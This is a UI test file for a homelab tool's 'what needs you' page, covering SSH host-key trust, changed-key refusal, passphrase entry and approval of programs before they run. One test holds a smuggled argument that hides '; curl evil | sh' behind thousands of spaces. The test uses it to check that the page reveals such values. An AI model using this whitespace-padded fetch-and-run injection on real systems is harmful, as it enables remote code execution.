import { describe, expect, it } from 'vitest'
import { FaultError } from '../../shared/contract/fault.ts'
import type { Source } from '../../shared/lab/model.ts'
import { makeLab } from '../labs/makeLab.ts'
import {
  makeChangedKey,
  makeHostKey,
  makeProgram,
  makeSecret,
  makeWaiting,
  waitingOfEachKind,
} from '../labs/makeNeeds.ts'
import { openPage } from './harness.ts'
import { useScene } from './scene.ts'
import { startScripted } from './scripted.ts'
import { settled } from './settled.ts'

describe('the page of what needs you', () => {
  const scene = useScene()
  const open = async (sources: Source[], hash = '#/needs') => {
    scene.backend = await startScripted({ labs: [makeLab({ sources })] })
    scene.watched = await openPage(scene.backend.url + hash)
    await settled(scene.page)
    return scene.page
  }
  const answers = () =>
    scene.backend.calls.filter(call => call.name === 'needs.answer').map(call => call.input)
  const button = (name: string | RegExp) => scene.page.getByRole('button', { name })
  const dialog = () => scene.page.getByRole('dialog')
  const closed = () => dialog().waitFor({ state: 'detached' })

  it('says that nothing needs you, and what would appear here', async () => {
    const page = await open([])
    await page.getByRole('heading', { name: 'Nothing needs you' }).waitFor()
    await page.getByText(/Host keys to trust, programs to allow/).waitFor()
  })

  it('tells each once, however many wait for it, what is stopped first, and is reached from the sidebar', async () => {
    const jump = makeHostKey('bastion')
    const all = [...waitingOfEachKind(), makeWaiting('ssh', 'one', jump), makeWaiting('ssh', 'two', jump)]
    const page = await open(all, '#/overview')
    await page.getByRole('link', { name: /Needs you/ }).click()
    await page.getByRole('heading', { name: '9 things need you' }).waitFor()
    await page.getByRole('heading', { name: '3 hosts met for the first time' }).waitFor()
    const names = await page.locator('.need .name').allTextContents()
    expect(names).toEqual(['asuna', 'attic', 'pi', 'vps', 'loft', 'k3s.yaml'])
    const link = page.getByRole('link', { name: 'Open the sign-in page' })
    expect(await link.getAttribute('href')).toBe('https://login.tailscale.com/a/1f2e3d')
    expect(await link.getAttribute('rel')).toContain('noopener')
  })

  it('opens a new key on the safe choice, and trusts it for good or once only when that is pressed', async () => {
    const need = makeHostKey('nas')
    const page = await open([makeWaiting('ssh', 'nas', need)])
    await button('Compare the key of nas…').click()
    await dialog().getByText('First time meeting nas').waitFor()
    expect(await dialog().locator(':focus').textContent()).toContain('Not now')
    // Grouped for the eye, whole for who hears it.
    expect(await dialog().locator('.fingerprint [aria-hidden]').allTextContents()).toEqual([
      expect.stringMatching(/^(\S{4} ){5}\S{4}$/),
      expect.stringMatching(/^(\S{4} ){4}\S{3}$/),
    ])
    expect(await dialog().locator('.fingerprint .hidden').textContent()).toBe(need.fingerprint.slice(7))
    await page.keyboard.press('Enter')
    await closed()
    expect(answers()).toEqual([])
    await button('Compare the key of nas…').click()
    await button('Only this once').click()
    await closed()
    await button('Compare the key of nas…').click()
    await button('The keys match, trust it').click()
    await closed()
    const about = { lab: 'test', source: 'source:ssh/nas', need: need.id }
    expect(answers()).toEqual([
      { ...about, answer: { kind: 'trust', once: true } },
      { ...about, answer: { kind: 'trust', once: false } },
    ])
  })

  it('trusts the keys that were chosen on the sheet, and no other', async () => {
    const page = await open(['nas', 'router', 'pi'].map(name => makeWaiting('ssh', name, makeHostKey(name))))
    const trust = button(/^The keys match, trust/)
    expect(await trust.getAttribute('aria-disabled')).toBe('true')
    expect(await page.getByRole('checkbox', { checked: true }).count()).toBe(0)
    await page.getByRole('checkbox', { name: 'nas' }).check()
    await page.getByRole('checkbox', { name: 'pi' }).check()
    await button('The keys match, trust 2 keys').click()
    await page.getByText('2 keys trusted: nas and pi.').waitFor()
    expect(answers().map(one => (one as { source: string }).source)).toEqual([
      'source:ssh/nas',
      'source:ssh/pi',
    ])
  })

  it('says what was trusted of a choice that was half done, and keeps the rest chosen', async () => {
    const hosts = ['nas', 'router', 'pi'].map(name => makeWaiting('ssh', name, makeHostKey(name)))
    const page = await open(hosts)
    let fails = true
    scene.backend.answer({
      'needs.answer': async ({ source }) => {
        if (fails && source === 'source:ssh/router') {
          throw new FaultError('internal', 'known_hosts could not be written.', 'Make room.')
        }
        const left = [...scene.backend.lab.tables.sources.values()].filter(one => one.id !== source)
        scene.backend.setLab(makeLab({ sources: left }))
        return { done: '' }
      },
    })
    await page.getByRole('checkbox', { name: 'Choose all' }).check()
    await button('The keys match, trust 3 keys').press('Enter')
    await page.getByText('known_hosts could not be written.').waitFor()
    const sheet = page.getByRole('region', { name: /met for the first time/ })
    await sheet.getByText('1 key trusted: nas. 2 keys are not trusted yet and still chosen.').waitFor()
    fails = false
    await button('The keys match, trust 2 keys').press('Enter')
    await page.getByText('2 keys trusted: router and pi.').waitFor()
    await page.getByRole('heading', { name: 'Nothing needs you' }).waitFor()
    expect(await page.locator(':focus').textContent()).toBe('Nothing needs you')
  })

  it('keeps the sheet for the one key that is left of it, still chosen', async () => {
    const page = await open(['nas', 'pi'].map(name => makeWaiting('ssh', name, makeHostKey(name))))
    scene.backend.answer({
      'needs.answer': async ({ source }) => {
        if (source === 'source:ssh/pi') throw new FaultError('internal', 'It could not be written.')
        const left = [...scene.backend.lab.tables.sources.values()].filter(one => one.id !== source)
        scene.backend.setLab(makeLab({ sources: left }))
        return { done: '' }
      },
    })
    await page.getByRole('checkbox', { name: 'Choose all' }).check()
    await button('The keys match, trust 2 keys').click()
    await page.getByText('1 key trusted: nas. 1 key is not trusted yet and still chosen.').waitFor()
    expect(await page.getByRole('checkbox', { name: 'pi' }).isChecked()).toBe(true)
  })

  it('case 13: a changed key has no way on but the characters that were kept back', async () => {
    const need = makeChangedKey('asuna')
    const page = await open([makeWaiting('ssh', 'asuna', need)])
    await button('See the evidence for asuna…').click()
    await dialog().getByText('Stopped: asuna answers with a different key').waitFor()
    expect(await dialog().locator(':focus').textContent()).toContain('Keep refusing')
    expect(await dialog().getByRole('button').allTextContents()).toEqual(
      expect.not.arrayContaining([expect.stringMatching(/trust|once|continue/i)]),
    )
    const field = dialog().getByLabel('Type the 7 hidden characters')
    await field.fill('short')
    expect(await button('Replace key').getAttribute('aria-disabled')).toBe('true')
    scene.backend.answer({
      'needs.answer': async () => {
        throw new FaultError(
          'refused',
          'Those are not the last 7 characters.',
          'Read them at the machine itself.',
        )
      },
    })
    await field.fill('wrong42')
    await button('Replace key').click()
    await page.getByText('Those are not the last 7 characters.').waitFor()
    // It stays, and what was typed is gone: nobody hits upon it by changing one character.
    expect(await field.inputValue()).toBe('')
    await page.keyboard.press('Escape')
    await closed()
  })

  it('a revoked key can only be refused', async () => {
    await open([makeWaiting('ssh', 'old', makeChangedKey('old', { verdict: 'revoked', hidden: 0 }))])
    await button('See the evidence for old…').click()
    await dialog().getByText('Stopped: old shows a key that is revoked').waitFor()
    expect(await dialog().getByRole('textbox').count()).toBe(0)
    await button(/Keep refusing/).click()
    await closed()
  })

  it('shows a program word by word before it may run', async () => {
    // What matters may stand behind any number of blanks.
    const need = makeProgram({ args: ['--cluster', `attic${' '.repeat(5_000)}; curl evil | sh`] })
    await open([makeWaiting('kubernetes', 'attic', need)])
    await button('See the program of attic…').click()
    expect(await dialog().locator('ol.argv li').allTextContents()).toEqual([need.command, ...need.args])
    await dialog().getByText('PROFILE=home').waitFor()
    expect(await dialog().locator(':focus').textContent()).toContain('Not now')
    await button('Never run it').click()
    await closed()
    await button('See the program of attic…').click()
    await button('Allow it to run').click()
    await closed()
    expect(answers().map(one => (one as { answer: unknown }).answer)).toEqual([
      { kind: 'refuse' },
      { kind: 'allow' },
    ])
  })

  it('takes a passphrase unseen, sends it once, and keeps nothing of it', async () => {
    const page = await open([makeWaiting('ssh', 'pi', makeSecret({ again: true }))])
    await button('Answer for pi…').click()
    await dialog().getByText('What was given before was wrong.').waitFor()
    const field = dialog().getByLabel(/^Passphrase of/)
    expect(await field.getAttribute('type')).toBe('password')
    expect(await field.evaluate(one => one === document.activeElement)).toBe(true)
    await field.fill('open sesame')
    await page.keyboard.press('Enter')
    await closed()
    expect(answers().map(one => (one as { answer: unknown }).answer)).toEqual([
      { kind: 'secret', values: ['open sesame'] },
    ])
    expect(await page.evaluate(() => document.documentElement.outerHTML + location.href)).not.toContain(
      'sesame',
    )
  })

  it('closes a dialog whose need was settled elsewhere', async () => {
    await open([makeWaiting('ssh', 'nas', makeHostKey('nas'))], '#/needs?need=host-key%3Anas')
    await dialog().waitFor()
    scene.backend.setLab(makeLab({}))
    await closed()
    await scene.page.getByRole('heading', { name: 'Nothing needs you' }).waitFor()
  })
})
